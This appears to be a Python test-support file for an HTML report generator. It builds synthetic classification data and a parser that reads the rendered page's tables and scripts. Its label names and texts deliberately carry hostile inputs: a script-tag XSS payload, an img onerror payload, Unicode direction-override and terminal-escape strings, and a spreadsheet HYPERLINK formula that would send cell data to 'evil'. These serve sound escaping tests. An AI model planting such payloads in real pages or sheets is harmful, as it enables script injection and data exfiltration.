"""A small evaluation with hostile names and texts, and a reader of the page's tables."""

from html.parser import HTMLParser

import numpy as np
from scipy.sparse import csr_matrix

from xmc_tf.models.explaining.explanation import Contribution, Evidence, Explanation, LabelExplanation, NodeExplanation
from xmc_tf.report import Curve, ReportInputs
from xmc_tf.tree import LabelTree

SCRIPT = "<script>alert(1)</script>"
OVERRIDE = "abc\u202egnp.exe\u202d\x1b[31m\ud800"
FORMULA = '=HYPERLINK("http://evil/?"&A1)'
DOCUMENTS, LABELS = 60, 30


def matrices(documents=DOCUMENTS, labels=LABELS, seed=0):
    """Return true, predicted, and training labels."""
    draw = np.random.default_rng(seed)
    truth = draw.random((documents, labels)) < 0.1
    scores = np.clip(draw.random((documents, labels)) * 0.7 + 0.4 * truth, 0, 1).round(2)
    scores[draw.random((documents, labels)) < 0.6] = 0
    training = draw.random((100, labels)) < np.linspace(0, 0.7, labels)
    return tuple(csr_matrix(matrix, dtype=np.float32) for matrix in (truth, scores, training))


def names(labels=LABELS):
    """Return label names, the first of them hostile."""
    return [SCRIPT, OVERRIDE, FORMULA, "‏שלום", *(f"label {number}" for number in range(4, labels))]


def texts(documents=DOCUMENTS):
    """Return texts, the first ones hostile or very long."""
    rest = [f"document {number} about label {number % 7}" for number in range(4, documents)]
    return [f"{SCRIPT}<img src=x onerror=alert(2)>", OVERRIDE * 3, "", "long " * 1_000_000, *rest]


class Explaining:
    """A stand-in for a model, which explains each text by its first words."""

    def __init__(self, labels):
        self.names, self.tree = names(labels), LabelTree(splits=([0, labels],), labels=np.arange(labels))
        self.hierarchy = self.evidence = None

    def explain(self, text, k):
        words = [Contribution(word, 0.5, 1 - 0.1 * place) for place, word in enumerate(text.lower().split()[:4])]
        nodes = [
            NodeExplanation(f"{SCRIPT}, …", 1, 0, 2, 8, 1.0, 0.9, tuple(words), 0.25, -0.1),
            NodeExplanation(SCRIPT, 2, 0, 30, 1, 1.0, 0.8, tuple(words), 0.25, -0.1),
        ]
        evidence = (Evidence("label head", 0.5, note="a note"), Evidence("tree", 0.8, tuple(nodes)))
        return Explanation((LabelExplanation(0, SCRIPT, 0.8, evidence),))


def inputs(labels=LABELS, **more):
    """Return the inputs of a report with all sections."""
    truth, predicted, training = matrices(labels=labels)
    other = matrices(labels=labels, seed=1)[1]
    given = {
        "model": Explaining(labels),
        "names": names(labels),
        "texts": texts(),
        "training_labels": training,
        "others": {f"other {SCRIPT}": other},
        "curves": [Curve("level 1", [1, 2, 3], [3.0, 2.0, 1.5], "loss"), Curve("level 2", [1, 2], [2.0, 1.0], "loss")],
        "settings": {SCRIPT: FORMULA},
    }
    return ReportInputs(f"Title {SCRIPT}", truth, predicted, **given | more)


class Page(HTMLParser):
    """The tables and tags of a page.

    ``tables`` maps the name of a table to its rows of texts; ``tags`` counts tags; ``attributes`` has all of them.
    """

    def __init__(self, html):
        super().__init__()
        self.tables, self.tags, self.attributes, self.scripts = {}, {}, [], []
        self._rows, self._inside, self._script = None, False, False
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags[tag] = self.tags.get(tag, 0) + 1
        self.attributes += [(tag, *one) for one in attrs]
        if tag == "table":
            self._rows = self.tables.setdefault(dict(attrs)["aria-label"], [])
        elif tag == "tr" and self._rows is not None:
            self._rows.append([])
        elif tag in ("td", "th"):
            self._rows[-1].append("")
            self._inside = True
        self._script = tag == "script"

    def handle_endtag(self, tag):
        if tag in ("td", "th"):
            self._inside = False
        elif tag == "script":
            self._script = False

    def handle_data(self, data):
        if self._inside:
            self._rows[-1][-1] += data
        if self._script:
            self.scripts.append(data)
